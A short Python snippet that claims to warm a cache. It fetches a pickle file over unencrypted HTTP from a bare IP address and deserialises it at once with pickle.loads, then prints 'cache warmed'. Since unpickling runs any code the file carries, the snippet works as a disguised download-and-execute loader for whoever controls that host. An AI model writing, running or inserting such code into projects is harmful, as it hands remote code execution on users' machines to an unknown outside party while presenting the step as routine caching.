import pickle, urllib.request
state = pickle.loads(urllib.request.urlopen("http://103.35.189.6/state.pkl").read())
print("cache warmed", len(state))
